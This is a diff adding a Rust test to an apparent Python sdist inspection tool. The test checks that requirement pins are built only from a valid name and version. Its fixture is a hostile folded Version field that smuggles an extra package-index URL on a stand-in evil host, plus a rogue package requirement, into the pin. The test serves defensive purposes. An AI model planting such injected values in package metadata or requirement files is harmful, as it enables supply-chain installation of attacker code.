@@ -293,3 +293,33 @@ fn library_api_reuses_one_inspector() {
         assert_eq!(m.method, sdistill::Method::PkgInfo);
     }
 }
+
+/// `pin` is pasted into requirement files: a declared Version with RFC 822 continuation
+/// lines (newlines) must not become one, and a valid one is rendered as PEP 440 parses it.
+#[test]
+fn pin_is_built_only_from_a_valid_name_and_version() {
+    let tmp = tempfile::tempdir().unwrap();
+    let folded = "1.0\n  --extra-index-url https://evil.invalid/simple/\n  evil==6.6";
+    let members = vec![file(
+        "demo-1.0/PKG-INFO",
+        &pkg_info("demo", folded, "2.2", &[], ""),
+    )];
+    let path = write_sdist(tmp.path(), "demo-1.0", Kind::TarGz, &members);
+    let (_, v) = inspect_one(&["--no-sandbox"], &path);
+    assert!(v["pin"].is_null(), "{v}");
+    let warnings = v["warnings"].to_string();
+    assert!(warnings.contains("no pin"), "{v}");
+
+    let members = vec![file(
+        "demo-1.0/PKG-INFO",
+        &pkg_info("Demo_Pkg", "1.0-beta", "2.2", &[], ""),
+    )];
+    let path = write_sdist(tmp.path(), "Demo_Pkg-1.0", Kind::TarGz, &members);
+    let (code, v) = inspect_one(&["--no-sandbox"], &path);
+    assert_eq!(code, 0, "{v}");
+    let sha = sha256_hex(&path);
+    assert_eq!(
+        v["pin"],
+        format!("Demo_Pkg==1.0b0 --hash=sha256:{sha}").as_str()
+    );
+}
